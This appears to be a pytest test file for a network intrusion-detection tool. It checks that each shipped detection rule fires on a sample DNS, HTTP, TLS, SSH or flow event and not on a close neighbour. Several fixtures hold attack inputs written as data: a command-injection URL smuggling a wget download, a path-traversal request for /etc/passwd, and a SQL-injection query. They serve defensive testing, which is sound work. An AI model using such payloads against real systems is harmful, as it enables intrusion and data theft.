"""Every shipped rule: well formed, fires on what it is for and not on its neighbour; its alert is valid."""

import re
from pathlib import Path
from typing import Any

import orjson
import pytest

from runtime.errors import ConfigError
from schemas.events import Event, get, put
from schemas.jsonschema import validator
from streams.core.alerts import TACTICS, alert_event
from streams.core.sigma import Rule, rule_files
from streams.rules_tools import check, shipped
from streams.rules_tools import test as try_rules
from tests.events import sample

RULES = {Path(rule.path).stem: rule for rule in check([shipped()]).rules}
Fields = dict[str, Any]

# By rule: dataset, fields of an event it fires on, and what changes in one it does not fire on.
CASES: dict[str, tuple[str, Fields, Fields]] = {
    "command_and_control_dns_very_long_name": (
        "dns",
        {"dns.question.name": f"{'a' * 60}.{'b' * 45}.example.com"},
        {"dns.question.name": "www.example.com"},
    ),
    "command_and_control_dns_txt_encoded_labels": (
        "dns",
        {"dns.question.type": "TXT", "dns.question.name": f"{'a1B2' * 11}.t.example.com"},
        {"dns.question.type": "A"},
    ),
    "command_and_control_dns_nxdomain_random_name": (
        "dns",
        {"dns.response_code": "NXDOMAIN", "dns.question.name": "xkqzvbnwrtplmd.ea1x.qxzkvbnwrtplmdaa.info"},
        {"dns.question.name": "www.universitylibraries.info"},
    ),
    "exfiltration_dns_over_tcp_long_name": (
        "dns",
        {
            "network.transport": "tcp",
            "dns.question.name": f"{'a' * 61}.example.com",
            "dns.question.type": "A",
        },
        {"network.transport": "udp"},
    ),
    "discovery_dns_zone_transfer": ("dns", {"dns.question.type": "AXFR"}, {"dns.question.type": "A"}),
    "execution_http_script_user_agent": (
        "http",
        {"user_agent.original": "curl/8.5.0"},
        {"user_agent.original": "Mozilla/5.0"},
    ),
    "command_and_control_http_no_user_agent": (
        "http",
        {"http.request.method": "GET", "user_agent.original": None, "netflight.http.pushed": None},
        {"user_agent.original": "x"},
    ),
    "command_and_control_http_host_is_address": (
        "http",
        {"url.domain": "203.0.113.9", "destination.ip": "203.0.113.9"},
        {"destination.ip": "10.1.2.3"},
    ),
    "initial_access_http_path_traversal": (
        "http",
        {"url.original": "/a?f=..%2F..%2Fetc%2Fpasswd"},
        {"url.original": "/a/b..c"},
    ),
    "initial_access_http_sql_injection": (
        "http",
        {"url.original": "/p?id=1%27+or+1=1"},
        {"url.original": "/search?q=oranges"},
    ),
    "initial_access_http_command_injection": (
        "http",
        {"url.original": "/x?ip=1;wget%20http://example.com/a"},
        {"url.original": "/download"},
    ),
    "command_and_control_http_nonstandard_port": (
        "http",
        {"http.request.method": "GET", "destination.port": 4444, "destination.ip": "203.0.113.9"},
        {"destination.port": 80},
    ),
    "command_and_control_http_executable_download": (
        "http",
        {"http.response.status_code": 200, "http.response.mime_type": "application/x-dosexec"},
        {"http.response.status_code": 404},
    ),
    "credential_access_http_password_in_url": (
        "http",
        {"url.query": "user=a&Password=b"},
        {"url.query": "password="},
    ),
    "defense_evasion_tls_obsolete_version": (
        "tls",
        {"tls.version_protocol": "tls", "tls.version": "1.0"},
        {"tls.version": "1.3"},
    ),
    "command_and_control_tls_self_signed_certificate": (
        "tls",
        {"tls.server.subject": "CN=x", "tls.server.issuer": "CN=x", "destination.ip": "203.0.113.9"},
        {"tls.server.issuer": "CN=Example CA"},
    ),
    "command_and_control_tls_no_server_name": (
        "tls",
        {"destination.port": 443, "tls.client.server_name": None},
        {"tls.client.server_name": "www.example.com"},
    ),
    "command_and_control_ssh_nonstandard_port": (
        "ssh",
        {"destination.port": 443},
        {"destination.port": 22},
    ),
    "lateral_movement_ssh_obsolete_protocol": (
        "ssh",
        {"netflight.ssh.server.software": "SSH-1.5-1.2.27"},
        {"netflight.ssh.server.software": "SSH-1.99-OpenSSH_3.9"},
    ),
    "credential_access_ssh_library_client": (
        "ssh",
        {"netflight.ssh.client.software": "SSH-2.0-libssh_0.10.5"},
        {"netflight.ssh.client.software": "SSH-2.0-OpenSSH_9.2p1"},
    ),
    "credential_access_cleartext_credentials": (
        "credentials",
        {"user.name": "alice", "netflight.credentials.secret": "[redacted]"},
        {"user.name": "anonymous"},
    ),
    "discovery_flow_refused_admin_port": (
        "flow",
        {"netflight.flow.state": "REJ", "destination.port": 3389, "network.transport": "tcp"},
        {"netflight.flow.state": "SF"},
    ),
    "credential_access_icmp_redirect": (
        "icmp",
        {"network_traffic.icmp.version": 4, "network_traffic.icmp.request.type": 5},
        {"network_traffic.icmp.request.type": 8},
    ),
}


def matched(rule: Rule, event: Event) -> bool:
    return [match.rule for match in try_rules([rule], [orjson.dumps(event)])] == [rule]


def test_every_shipped_rule_is_right_and_has_a_case() -> None:
    found = check([shipped()])
    assert found.problems == []
    assert set(CASES) == set(RULES)
    assert len(RULES) >= 20


@pytest.mark.parametrize("name", sorted(CASES))
def test_rule_fires_on_its_case_and_not_on_the_neighbour(name: str) -> None:
    dataset, fields, change = CASES[name]
    assert matched(RULES[name], sample(dataset, **fields))
    assert not matched(RULES[name], sample(dataset, **{**fields, **change}))


@pytest.mark.parametrize("name", sorted(CASES))
def test_alert_is_valid_and_carries_the_evidence(name: str) -> None:
    dataset, fields, _ = CASES[name]
    event, rule = sample(dataset, **fields), RULES[name]
    before = orjson.dumps(event)
    alert = alert_event(rule, event, 1_790_000_000_000_000_000)
    validator("netflight.alerts")(orjson.loads(orjson.dumps(alert)))
    assert orjson.dumps(event) == before
    assert alert == alert_event(rule, event, 1_790_000_000_000_000_000)
    assert get(alert, "netflight.alert.event.id") == [get(event, "event.id")]
    assert get(alert, "netflight.alert.event.dataset") == get(event, "event.dataset")
    assert get(alert, "threat.tactic.name")
    for field in ("@timestamp", "source", "destination", "related", "observer", *fields):
        assert get(alert, field) == get(event, field)
    assert rule.title in get(alert, "event.reason")


@pytest.mark.parametrize("name", sorted(RULES))
def test_rule_says_what_a_reader_needs(name: str) -> None:
    rule = RULES[name]
    assert rule.author == ("Netflight",)
    assert rule.license == "Apache-2.0"
    assert rule.falsepositives
    assert all(url.startswith("https://") for url in rule.references)
    assert rule.references
    assert len(rule.description) > 60
    tactics = {tactic.replace("-", "_") for tactic in TACTICS}
    assert any(name.startswith(f"{tactic}_") for tactic in tactics), "files are named tactic_name"
    tags = {tag.removeprefix("attack.").replace("-", "_") for tag in rule.tags}
    assert tags & tactics
    assert all(re.fullmatch(r"t\d{4}(_\d{3})?", tag.replace(".", "_")) for tag in tags - tactics)


def test_two_rules_on_one_event_give_two_alerts_with_ids_of_their_own() -> None:
    event = sample("http", **{"user_agent.original": "curl/8", "url.original": "/../../etc/passwd"})
    rules = [RULES["execution_http_script_user_agent"], RULES["initial_access_http_path_traversal"]]
    alerts = [alert_event(rule, event, 0) for rule in rules]
    assert len({get(alert, "event.id") for alert in alerts}) == 2


def test_check_tells_every_problem_and_keeps_the_right_rules(tmp_path: Path) -> None:
    good = next(iter(rule_files([shipped()])))
    (tmp_path / "good.yaml").write_text(good.read_text())
    (tmp_path / "bad.yaml").write_text("title: x")
    (tmp_path / "copy.yaml").write_text(good.read_text())
    found = check([tmp_path])
    assert len(found.rules) == 1
    assert {problem.path.name for problem in found.problems} == {"bad.yaml", "good.yaml"}
    with pytest.raises(ConfigError, match="no such rule"):
        check([tmp_path / "missing"])


def test_trying_rules_names_the_line_that_is_no_event() -> None:
    lines = [orjson.dumps(sample("dns")), b"", b"{}"]
    with pytest.raises(ConfigError, match="line 3"):
        list(try_rules(RULES.values(), lines))


def test_an_alert_needs_no_field_of_the_event_but_its_envelope() -> None:
    rule = RULES["discovery_dns_zone_transfer"]
    event: Event = {"@timestamp": "2026-01-02T03:04:05.000000000Z"}
    put(event, "event.id", "x")
    put(event, "event.dataset", "network_traffic.dns")
    assert get(alert_event(rule, event, 0), "event.reason") == rule.title
